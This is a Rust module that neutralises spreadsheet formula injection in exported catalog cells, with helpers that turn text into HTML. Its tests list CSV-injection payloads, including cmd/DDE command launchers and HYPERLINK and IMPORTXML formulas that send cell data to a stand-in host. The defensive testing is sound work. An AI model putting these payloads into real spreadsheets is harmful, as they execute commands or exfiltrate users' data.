//! Cells that a spreadsheet shows and does not execute, and texts in the form that a place takes.

use crate::cells::{tidy, without_tags};

/// Whether a spreadsheet takes this for a formula: it begins with one of the signs, in their wide forms too,
/// and is no plain number.
#[must_use]
pub fn is_formula(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let rest = text.trim_start();
    let signs = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠'];
    rest.starts_with(signs) && rest.trim_end().parse::<f64>().is_err()
}

/// The text as a cell that no spreadsheet evaluates: an apostrophe stands before a formula.
#[must_use]
pub fn defused(text: &str) -> String {
    if is_formula(text) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A number as a text for spreadsheets, which would drop its zeros; the reader of catalogs takes the
/// apostrophe off again.
#[must_use]
pub fn apostrophe(text: &str) -> String {
    let is_number = !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    if is_number {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The text as HTML: as it is where it is HTML, else a paragraph for each block of lines. It begins with a
/// tag, which is no formula anywhere.
#[must_use]
pub fn html(text: &str) -> String {
    let text = text.trim();
    let has_tags = text.split('<').skip(1).any(|behind| {
        behind.starts_with(|c: char| c.is_ascii_alphabetic()) && behind.contains('>')
    });
    if has_tags && text.starts_with('<') {
        return text.to_owned();
    }
    if has_tags {
        return format!("<div>{text}</div>");
    }
    let escaped = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let paragraphs = escaped.replace("\r\n", "\n");
    let paragraphs = paragraphs
        .split("\n\n")
        .map(str::trim)
        .filter(|text| !text.is_empty());
    paragraphs
        .map(|paragraph| format!("<p>{}</p>", paragraph.replace('\n', "<br>")))
        .collect()
}

/// The text without tags and line feeds, of at most so many characters, cut between words.
#[must_use]
pub fn plain_text(text: &str, most: usize) -> String {
    let whole = tidy(&without_tags(text)).unwrap_or_default();
    if whole.chars().count() <= most {
        return whole;
    }
    // One more, so that a word that just fits is seen to end.
    let begin: String = whole.chars().take(most + 1).collect();
    match begin.rsplit_once(' ') {
        Some((words, _)) => words.to_owned(),
        None => begin.chars().take(most).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_payload_is_left_a_formula() {
        for payload in [
            "=1+1",
            "=HYPERLINK(\"https://a.example/?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            " =1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "%0A-3+3",
            "|calc",
            "=IMPORTXML(CONCAT(\"https://a.example/\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1-800-555",
            "-",
        ] {
            assert!(is_formula(payload), "{payload:?}");
            assert!(defused(payload).starts_with('\''), "{payload:?}");
            assert!(html(payload).starts_with("<p>"), "{payload:?}");
            assert!(!is_formula(&html(payload)));
        }
        for harmless in ["Lamp", "-12.5", "+3", "5 - 4", "", "a=b", "<p>=1</p>"] {
            assert_eq!(defused(harmless), harmless);
        }
    }

    #[test]
    fn a_barcode_keeps_its_zeros_through_a_spreadsheet_and_back() {
        assert_eq!(apostrophe("0037212000368"), "'0037212000368");
        assert_eq!(apostrophe("SKU-1"), "SKU-1");
        assert_eq!(
            domain::gtin::normalise(&apostrophe("0037212000368")),
            "0037212000368"
        );
    }

    #[test]
    fn texts_become_html_once() {
        for (text, expect) in [
            (
                "Bright & warm.\nFor desks.\n\nSize < 5",
                "<p>Bright &amp; warm.<br>For desks.</p><p>Size &lt; 5</p>",
            ),
            ("<p>Bright</p>", "<p>Bright</p>"),
            ("=1 <b>x</b>", "<div>=1 <b>x</b></div>"),
        ] {
            assert_eq!(html(text), expect);
            assert_eq!(html(expect), expect);
        }
        assert_eq!(plain_text("<p>Bright <b>lamp</b></p> x", 11), "Bright lamp");
    }
}
